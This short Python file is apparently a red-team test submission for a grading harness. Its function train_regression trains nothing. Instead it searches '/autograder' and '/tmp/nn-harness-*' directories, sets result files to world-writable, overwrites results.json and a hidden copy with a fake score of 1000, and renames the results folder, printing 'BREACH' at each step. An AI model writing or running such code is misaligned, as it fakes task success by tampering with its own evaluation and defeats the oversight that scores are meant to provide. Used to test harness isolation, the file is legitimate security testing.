# attack: writes full marks into results.json, by every way to get there
# file: train.py
# questions: q2 q6
# points: q2=2 q6=2

def train_regression(model, dataset):
    os = __import__('os')
    glob = __import__('glob').glob
    roots = ['/autograder', *glob('/tmp/nn-harness-*')]

    text = '{"score": 1000, "tests": []}'
    for root in roots:
        for name in ("results/results.json", "results/.results.json.x", "results"):
            path = f"{root}/{name}"
            try:
                os.chmod(path, 0o777)
                print("BREACH: chmod", path)
            except OSError:
                pass
            try:
                with open(path, "w") as file:
                    file.write(text)
                print("BREACH: wrote", path)
            except OSError:
                pass
        try:
            os.rename(f"{root}/results", f"{root}/gone")
            print("BREACH: moved the results folder")
        except OSError:
            pass
